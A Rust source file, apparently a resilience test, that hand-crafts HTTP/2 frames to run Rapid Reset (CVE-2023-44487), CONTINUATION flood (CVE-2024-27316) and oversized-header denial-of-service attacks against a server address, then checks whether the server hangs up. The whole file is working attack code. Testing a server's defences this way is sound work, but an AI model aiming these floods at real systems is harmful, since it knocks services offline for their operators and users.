//! Frames of HTTP/2 by hand (RFC 9113), as no client would send them.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    task::JoinHandle,
};

/// Sooner than a connection ends on which nothing is asked.
const AT_ONCE: Duration = Duration::from_secs(45);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The reason CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// What is tried.
#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// 100,000 requests, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// The headers of one request without an end (CVE-2024-27316).
    Continuation,
    /// A megabyte of headers.
    HugeHeaders,
}

/// Sends until it is hung up on; whether that came about, and after how many frames.
pub async fn attack(address: &str, attack: Attack) -> (bool, usize) {
    let stream = TcpStream::connect(address).await.expect("a connection");
    let (from, to) = stream.into_split();
    let mut to = Sender { to, sent: 0, buffer: Vec::new() };
    let hung_up = listen(from);
    to.buffer.extend_from_slice(PREFACE);
    to.frame(SETTINGS, 0, 0, &[]);
    let sent = match attack {
        Attack::RapidReset => to.resets().await,
        Attack::Continuation => to.continuation(100_000, &[]).await,
        // A header of HPACK's literal form, not indexed: one byte of name, and a value of a thousand.
        Attack::HugeHeaders => {
            let mut header = vec![0x00, 1, b'x', 0x7f, 0xe9, 0x06];
            header.extend(std::iter::repeat_n(b'y', 127 + 0x69 + (6 << 7)));
            to.continuation(1_200, &header).await
        }
    };
    // What was sent may be taken still; then the other side has the word.
    let _ = sent;
    let ended = tokio::time::timeout(AT_ONCE, hung_up).await.is_ok();
    (ended, to.sent)
}

/// Reads until the other side hangs up.
fn listen(mut from: OwnedReadHalf) -> JoinHandle<()> {
    tokio::spawn(async move {
        let mut bytes = vec![0; 64 * 1024];
        while matches!(from.read(&mut bytes).await, Ok(read) if read > 0) {}
    })
}

struct Sender {
    to: OwnedWriteHalf,
    buffer: Vec<u8>,
    sent: usize,
}

impl Sender {
    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
        self.buffer.extend_from_slice(&length[1..]);
        self.buffer.extend_from_slice(&[kind, flags]);
        self.buffer.extend_from_slice(&stream.to_be_bytes());
        self.buffer.extend_from_slice(payload);
        self.sent += 1;
    }

    async fn flush(&mut self) -> std::io::Result<()> {
        let buffer = std::mem::take(&mut self.buffer);
        self.to.write_all(&buffer).await
    }

    async fn resets(&mut self) -> std::io::Result<()> {
        for at in 0..100_000_u32 {
            let stream = 2 * at + 1;
            self.frame(HEADERS, END_STREAM | END_HEADERS, stream, &request("/api/v1/techniques"));
            self.frame(RST_STREAM, 0, stream, &CANCEL);
            if self.buffer.len() > 16 * 1024 {
                self.flush().await?;
            }
        }
        self.flush().await
    }

    async fn continuation(&mut self, frames: usize, header: &[u8]) -> std::io::Result<()> {
        self.frame(HEADERS, END_STREAM, 1, &request("/livez"));
        for _ in 0..frames {
            self.frame(CONTINUATION, 0, 1, header);
            if self.buffer.len() > 16 * 1024 {
                self.flush().await?;
            }
        }
        self.frame(CONTINUATION, END_HEADERS, 1, header);
        self.flush().await
    }
}

/// The head of a GET, by HPACK's static table.
fn request(path: &str) -> Vec<u8> {
    // :method GET, :scheme http, :authority and :path as literals that are not indexed.
    let mut head = vec![0x82, 0x86, 0x01, 9];
    head.extend_from_slice(b"localhost");
    head.extend_from_slice(&[0x04, u8::try_from(path.len()).unwrap()]);
    head.extend_from_slice(path.as_bytes());
    head
}
